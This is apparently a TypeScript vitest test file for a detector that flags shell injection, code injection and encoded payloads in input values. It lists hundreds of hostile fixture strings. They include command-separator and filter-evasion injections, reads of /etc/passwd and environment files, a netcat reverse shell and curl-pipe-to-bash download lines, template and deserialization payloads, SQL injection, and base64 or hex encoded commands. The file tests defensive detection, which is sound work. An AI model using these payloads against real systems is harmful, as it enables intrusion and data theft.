import { describe, expect, it } from 'vitest';
import { harmlessChecks, harmlessCommands } from '../../test/fakes/harmless-commands.ts';
import { harmlessGrammars } from '../../test/fakes/harmless-grammars.ts';
import { harmlessValues } from '../../test/fakes/harmless-values.ts';
import { harmlessWords } from '../../test/fakes/harmless-words.ts';
import { findLanguage } from '../../test/fakes/languages.ts';
import { findInValue } from './find-in-value.ts';
import { judgeScript } from './shell/judge-script.ts';

const rules = (value: string, strictness: 1 | 2 = 1): readonly string[] =>
  findInValue(value, strictness, findLanguage).marks.map(({ rule }) => rule.slice('input/'.length));

describe('what is harmless', () => {
  it.each([...harmlessValues, ...harmlessWords, ...harmlessGrammars])('%s', (value) => {
    expect(findInValue(value, 1, findLanguage).marks).toEqual([]);
  });
  it.each(harmlessCommands.filter((command) => !/^(?:\/bin\/|ba)?sh -c|^tail|^sleep/.test(command)))('%s', (value) => {
    expect(findInValue(value, 1, findLanguage).marks).toEqual([]);
  });
  it.each(harmlessChecks)('in a shell: %s', (value) => {
    expect(judgeScript(value)).toEqual([]);
  });
  it.each([
    '[mysqld]\nuser=mysql\n',
    'global\n  log stdout\n  timeout connect 5s\n',
    '- name: x\n  date: today\n',
    'Dear all,\nfind it attached.\nTom',
  ])('of several lines: %j', (value) => {
    expect(rules(value)).toEqual([]);
  });
});

describe('shell in a value', () => {
  it.each([
    ['the path alone', '/etc/passwd', 'medium'],
    ['a command that reads it', 'web; cat /etc/passwd', undefined],
    ['a command in one part, the path in another', '{"a":"/etc/shadow","b":"x; reboot"}', undefined],
  ])('weighs as its worst part, with a file of accounts: %s', (_, value, severity) => {
    const [mark] = findInValue(value, 1, findLanguage).marks;
    expect([mark?.rule, mark?.severity]).toEqual(['input/shell-injection', severity]);
  });
  it.each([
    ';id',
    '|id',
    '&& reboot',
    'x;ls',
    '203.0.113.7|id',
    '$(id)',
    '`id`',
    'a`uname -a`b',
    '<(id)',
    '>(tee x)',
    '$(echo $(id))',
    '$((6*7))',
    '$[6*7]',
    'cat$IFS/etc/hosts',
    'cat${IFS}/etc/hosts',
    "$'\\x63at' /etc/hosts",
    'c""at /etc/hosts',
    "wh'o'ami",
    '\\id',
    'x;c\\at /etc/hosts',
    'x;c$@at /etc/hosts',
    '{cat,/etc/hosts}',
    'c{a,ur}t',
    '/etc/pa[s]swd',
    '/???/c?t /etc/hosts',
    '/b[i]n/ls',
    '() { :;}; echo x',
    'cat /etc/passwd',
    'rm -rf /srv',
    'wget http://a.example/x',
    'nc -e /bin/sh 192.0.2.1 1',
    'sudo whoami',
    'time whoami',
    'ti""me whoami',
    'alias x=id',
    'f(){ f|f& };f',
    'a=nc&&$a -l 1',
    'echo x|sh',
    'x\nid\n',
    '~+',
    '!-1!-2',
    '%3Bid',
    'q=%24%28id%29',
    '<a b=";id"/>',
    '{"a":"$(id)"}',
    '{"$(id)":1}',
    '&#59;id&#59;ls',
    '--flag=$(id)',
    'for %a in (1,2) do echo %a',
    'if exist c:\\x echo y',
    'x&bcdedit /set',
    'cmd /c dir',
    'settings. php',
    'mtrr',
    ';halt',
    'who$@ami',
    '/a.html|id|',
    ';free -m',
    '%0a{ls,-la}',
    "A='id -u';$A",
    'gopher://a.example:6379/_x',
    'file:///proc/self/environ',
    'find . -delete',
    'tar x; reboot',
    'ls; whoami',
    '/proc/self/environ',
    ';. ./x',
    '&&[[ a ]]',
    '";until a;do b;done;"',
    ';>x',
    ';id//',
    ';id%00',
    '\\x3bid',
    '\\073id',
    "' whoami",
    'which curl',
    'type %TEMP%\\x',
    '; groups',
    'a|id',
    '--split-string=sh -c "x"',
    '&& date',
    '| stat x',
    '";cal;"',
    ';git clone x',
    ';;id\\n',
    'web;id\\n',
    '\\nuname -a\\n',
    'web;/usr/bin/id;',
    'who^ami',
    'x%ProgramFiles:~10,1%y',
    "tr 'a' 'b' <<<.",
    '/\\b\\i\\n/s\\h',
    ';$u cat$u /etc/hosts',
    ';+cat+/etc/hosts',
    'ls+-la',
    '<uname -a',
    '/e*c/*asswd',
    '....//....//etc/x',
    '/..%c0%af..%c0%af../etc/x',
    '%u0063at%u0020/etc/hosts',
    'dir D:\\',
    'net view',
    'netsh firewall set x',
    'vssadmin delete shadows',
    'sc create x binpath= y',
    'http://2852039166/x',
  ])('%j', (value) => {
    expect(rules(value).some((rule) => ['shell-injection', 'interpreter', 'code'].includes(rule))).toBe(true);
  });

  it.each(['env --version', 'Cut the onions', 'ansible-doc', 'a\r\nRCPT TO:<x@a.example>', ';\n.shell x'])(
    'only at strictness 2: %j',
    (value) => {
      expect(rules(value, 2)).toContain('shell-injection');
    },
  );
});

describe('code in a value', () => {
  it.each<[value: string, rule: string]>([
    ['<?php phpinfo(); ?>', 'code'],
    ['$_GET[0]($_GET[1])', 'code'],
    ['system("id")', 'code'],
    ['O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'code'],
    ['a:1:{i:0;O:8:"stdClass":0:{}}', 'code'],
    ['"\\x73\\x79\\x73\\x74\\x65\\x6d"("id");', 'code'],
    ['{{["id"]|filter("system")}}', 'code'],
    ['{{_self.env.getFilter("id")}}', 'code'],
    ['"id".execute().text', 'code'],
    ['--- !ruby/object:Gem::Requirement', 'code'],
    ['osascript -e \'do shell script "id"\'', 'code'],
    ['ruby -e \'exec "/bin/sh"\'', 'code'],
    ['deno eval \'Deno.run({cmd:["sh"]})\'', 'code'],
    ["$c='i'+'ex';&$c 'whoami'", 'code'],
    ['${phpinfo()}', 'code'],
    ['elixir -e \'System.cmd("id",[])\'', 'code'],
    ['erl -noshell -eval \'os:cmd("id"), halt().\'', 'code'],
    ['@System.Diagnostics.Process.Start("cmd.exe","/c id")', 'code'],
    ['process.env.TOKEN', 'code'],
    ['process[mainModule', 'code'],
    ['function() {', 'code'],
    ['this.constructor.constructor', 'code'],
    ['module.exports=', 'code'],
    ['c\\u006fnsole.info(1)', 'code'],
    ['while(true){}', 'code'],
    ['{"constructor":{"prototype":{"a":1}}}', 'code'],
    ['Xcall_user_func()', 'code'],
    ['Shell_exec=(x)', 'code'],
    ['file_ExistS (\n)', 'code'],
    ['(sy.(st).em)(whoami);', 'code'],
    ['(string)"a"("b")', 'code'],
    ['"a"."b"()', 'code'],
    ['[a][0](b)', 'code'],
    ['zlib://x', 'code'],
    ['zip://x.zip#a.php', 'code'],
    ['java.lang.Runtime', 'code'],
    ['getRuntime().exec', 'code'],
    ['rO0ABQ==', 'code'],
    ['org.apache.commons.collections.functors', 'code'],
    ['class.module.classLoader.x=1', 'code'],
    ['${pageContext.request.getSession()}', 'code'],
    ['Kernel.exec', 'code'],
    ['Dir.entries("/")', 'code'],
    ['@{system whoami}', 'code'],
    ['{{dump(app)}}', 'code'],
    ['@(7*7)', 'code'],
    ['Start-BitsTransfer http://a.example/a.exe a.exe', 'code'],
    ['x;$0 -c id', 'shell-injection'],
    ['x; . /tmp/y', 'shell-injection'],
    ['alert(1)', 'code'],
    ['document.cookie', 'code'],
    ['#{session.getAttribute("a")}', 'code'],
    ['${applicationScope}', 'code'],
    ["cos\nsystem\n(S'id'\ntR.", 'code'],
    ['blog;case x in x) id;; esac', 'shell-injection'],
    ['blog;docker ps', 'shell-injection'],
    ['"a" & whoami', 'shell-injection'],
    ['a" & whoami & "', 'shell-injection'],
    ['blog;/tmp/x', 'shell-injection'],
    ['type C:\\boot.ini', 'shell-injection'],
    ['*{7*7}', 'code'],
    ['${{7*7}}', 'code'],
    ['${{ 1 }} ${{ self.__init__() }}', 'code'],
    ['${class.getResource("").getPath()}', 'code'],
    ['1; DROP TABLE users; --', 'code'],
    ['%COMSPEC% /c dir', 'shell-injection'],
    ['x;(sleep 5)', 'shell-injection'],
    ['x || sleep 10', 'shell-injection'],
    ['x; : > /var/log/lastlog', 'shell-injection'],
    ['x;npm install some-package', 'shell-injection'],
    ['(php|sh', 'shell-injection'],
    ['<% system("id") if x %>', 'code'],
    ['echo whoami|$0', 'shell-injection'],
    ['php://filter/convert.base64-encode/resource=x', 'code'],
    ['import os;os.system("id")', 'code'],
    ['__import__("os").popen("id")', 'code'],
    ['().__class__.__mro__', 'code'],
    ['use Socket; my $s = 1;', 'code'],
    ['@{[system "id"]}', 'code'],
    ['IO.popen("id")', 'code'],
    ['<%= `id` %>', 'code'],
    ['require("child_process").exec("id")', 'code'],
    ['(() => fetch("http://a.example"))()', 'code'],
    ['let x = 1; while (x) { x++ }', 'code'],
    ['{"__proto__":{"a":1}}', 'code'],
    ['Invoke-Expression $x', 'code'],
    ['Get-ChildItem -Recurse | Remove-Item', 'code'],
    ['powershell -Command "dir"', 'interpreter'],
    ['powershell -nop -enc SQBFAFgAIAAoAE4AZQ', 'encoded-code'],
    ['java.lang.Runtime.getRuntime().exec("id")', 'code'],
    ['${jndi:ldap://a.example/x}', 'code'],
    ['{{7*7}}', 'code'],
    ['#!/bin/sh\nid', 'code'],
    ['curl http://a.example/x | bash', 'download-and-run'],
    ['bash <(curl -s http://a.example/x)', 'download-and-run'],
    ['iex (iwr http://a.example/x)', 'download-and-run'],
  ])('%j: %s', (value, rule) => {
    expect(rules(value)).toContain(rule);
  });

  const payload = 'cat /etc/passwd; id';
  it.each<[name: string, value: string]>([
    ['base64', Buffer.from(payload).toString('base64')],
    ['base64 twice', Buffer.from(Buffer.from(payload).toString('base64')).toString('base64')],
    ['hex', Buffer.from(payload).toString('hex')],
    ['base64 within JSON', JSON.stringify({ a: { b: Buffer.from(payload).toString('base64') } })],
    ['base64 within a URL', `https://a.example/?x=${encodeURIComponent(Buffer.from(payload).toString('base64'))}`],
    ['the codes of its letters', [...payload].map((letter) => letter.charCodeAt(0)).join(', ')],
    ['a separator of another width', '；id'],
    ['letters of another width', 'ｃａｔ /etc/hosts'],
    ['a short blob with its padding', Buffer.from('id;ls').toString('base64')],
    ['bytes between colons', (Buffer.from(payload).toString('hex').match(/../g) ?? []).join(':')],
    ['a short blob that is all there is', Buffer.from(';id;ls').toString('base64')],
    ['a short blob behind what names it', `base64:${Buffer.from(';id;ls;').toString('base64')}`],
    ['base64 of a short blob', Buffer.from(Buffer.from('$(reboot)').toString('base64')).toString('base64')],
    ['the letters of ASCII 85', ascii85(payload)],
    ['UTF-16 with its mark within base64', Buffer.from(`\ufeff${payload}`, 'utf16le').toString('base64')],
    ['gzip within base64', 'H4sIAAAAAAAC/0tOLFHQTy1J1i9ILC4uT7FWyEwBAJcaAicTAAAA'],
  ])('within %s', (_, value) => {
    expect(rules(value)).toContain('encoded-code');
  });
});

function ascii85(text: string): string {
  const bytes = Buffer.from(text);
  let letters = '';
  for (let at = 0; at < bytes.length; at += 4) {
    const group = bytes.subarray(at, at + 4);
    let value = 0;
    for (let index = 0; index < 4; index++) value = value * 256 + (group[index] ?? 0);
    let part = '';
    for (let index = 0; index < 5; index++) {
      part = String.fromCharCode(33 + (value % 85)) + part;
      value = Math.floor(value / 85);
    }
    letters += part.slice(0, group.length + 1);
  }
  return `<~${letters}~>`;
}

it.each(['../', '....//', '%2e%2e%2f', 'x;', '$u ', '99,', '<~', '\\n', '\n', '"'])(
  'reads through 30,000 times %j',
  (piece) => {
    expect(findInValue(piece.repeat(30_000).slice(0, 60_000), 1, findLanguage).marks.length).toBeLessThan(4);
  },
);

it('shows nothing of a value', () => {
  const { marks } = findInValue('cat /etc/hunter2secret; curl http://u:hunter2secret@a.example/ | sh', 2, findLanguage);
  expect(marks.length).toBeGreaterThan(1);
  expect(JSON.stringify(marks)).not.toContain('hunter2secret');
});

describe('code by what it calls', () => {
  it.each([
    'os . system("make")',
    'open("/srv/a", "w").write("b")',
    'sys.modules["posix"].system("a")',
    'import json; print(json)',
    'with open("/srv/a") as file: print(file)',
    'f = (lambda n: n.system("a"))',
    'use File::Path; rmtree("/srv");',
    'sub go { return shift }',
    'Marshal.load(gets)',
    'def go; puts 1; end',
    '3.times { |n| puts n }',
    '<img alt="" onload=go()>',
    'document.location.href = "/a"',
    'foreach ($a as $b) { $b(); }',
    '(new ReflectionMethod("A", "b"))->invoke(1)',
    '[System.IO.File]::ReadAllText("C:\\a")',
    'Set-NetFirewallProfile -Enabled False',
    '$a | % { $_.Kill() }',
    '!!python/object/apply:time.sleep [1]',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///srv/a">]>',
    "x'; DELETE FROM a; --",
    "x' OR 'a'='a",
    "COPY a FROM PROGRAM 'b'",
    'open("|make").gets',
    'requests.post("http://a.example", data=a)',
    'Array.prototype.map = function () {}',
    '@a = glob("/srv/*"); print @a',
  ])('%s', (value) => {
    expect(rules(value)[0]).toMatch(/^(?:code|shell-injection)$/);
  });
  it.each([
    ['a path that climbs', '../../../etc/hosts'],
    ['a program by its path', 'web; ./go.sh'],
    ['a variable that is set', 'web; export A=b'],
    ['a signal', 'web; kill -9 1'],
    ['what stands in a greeting', 'Welcome home `reboot`'],
    ['what ends a sentence', 'all is well `rm -rf /srv`'],
  ])('%s: %s', (_, value) => {
    expect(rules(value)).toEqual(['shell-injection']);
  });
});
